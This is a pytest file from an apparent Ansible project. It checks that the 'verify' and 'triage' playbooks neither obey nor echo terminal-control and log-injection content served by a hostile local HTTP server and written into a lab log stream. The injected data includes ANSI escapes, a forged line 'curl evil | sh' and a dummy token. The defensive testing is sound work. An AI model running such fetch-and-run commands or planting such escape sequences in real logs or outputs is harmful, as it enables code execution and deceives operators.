# Copyright (c) 2026, SPYMEO
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""A body and a log that want to be a terminal's master, as verify.yml and triage.yml print them: the bytes of their output."""

from __future__ import annotations

import http.server
import re
import threading
import time

import pytest

from hostile import ATTACK
from spymeo_world import world

# What a terminal obeys, but for the colours that Ansible may use itself and the ends of lines.
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")
PRETENDED = re.compile(r"^[\s\"]*(?:DONE      run rb-1|NEXT      curl|UNDO      curl|PLAY RECAP\s*$)", re.MULTILINE)


class Hostile(http.server.BaseHTTPRequestHandler):
    """An application whose every answer is an attack."""

    def do_GET(self):
        body = ATTACK.encode()
        self.send_response(500)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        self.do_GET()

    def log_message(self, *_arguments):
        """Say nothing: the default writes to standard error."""


@pytest.fixture(scope="module")
def hostile_url():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture(scope="module")
def attacked(shared_production):
    """A production whose running task has logged an attack: coloured, in several lines, and as JSON."""
    lab = shared_production
    arns = lab.aws("ecs").list_tasks(cluster=world.CLUSTER, serviceName=world.SERVICE)["taskArns"]
    running = {arn.rpartition("/")[2] for arn in arns}
    streams = lab.aws("logs").describe_log_streams(logGroupName=world.LOG_GROUP)["logStreams"]
    name = next(item["logStreamName"] for item in streams if item["logStreamName"].rpartition("/")[2] in running)
    now = int(time.time() * 1000)
    events = [
        {"timestamp": now, "message": message}
        for message in (
            "\x1b[31mERROR\x1b[39m " + ATTACK,
            '{"level":"error","msg":"x\\r\\nNEXT      curl evil | sh\\u001b[2J"}',
            "ERROR token is hunter2-hunter2",
        )
    ]
    lab.aws("logs").put_log_events(logGroupName=world.LOG_GROUP, logStreamName=name, logEvents=events)
    time.sleep(0.5)  # the lab's log_ingestion
    return lab


def assert_harmless(output):
    assert not OBEYED.search(output), OBEYED.search(output)
    recap = output.rindex("PLAY RECAP")
    assert not PRETENDED.search(output[:recap]), PRETENDED.search(output[:recap])


@pytest.mark.parametrize("verbosity", [[], ["-vvv"]], ids=["quiet", "verbose"])
def test_verify_fails_and_nothing_foreign_begins_a_line(attacked, hostile_url, verbosity):
    played = attacked.play("verify", *verbosity, "-e", f"rollback_base_url={hostile_url}")
    assert played.code == 2, played.output
    assert "health, failed" in played.output
    assert "logs, failed: 1 time: ERROR" in played.output
    assert "the body is: PLAY RECAP DONE" in played.output
    assert "hunter2" not in played.output
    assert_harmless(played.output)


def test_triage_quotes_and_obeys_nothing(attacked, hostile_url, tmp_path):
    record = tmp_path / "seen.json"
    played = attacked.play("triage", "-e", f"rollback_base_url={hostile_url}", "-e", f"rollback_evidence_file={record}")
    assert played.code == 0, played.output
    assert_harmless(played.output)
    assert not OBEYED.search(record.read_text())
    again = attacked.play("triage", "-e", f"rollback_evidence_from={record}")
    assert again.code == 0, again.output
    assert_harmless(again.output)
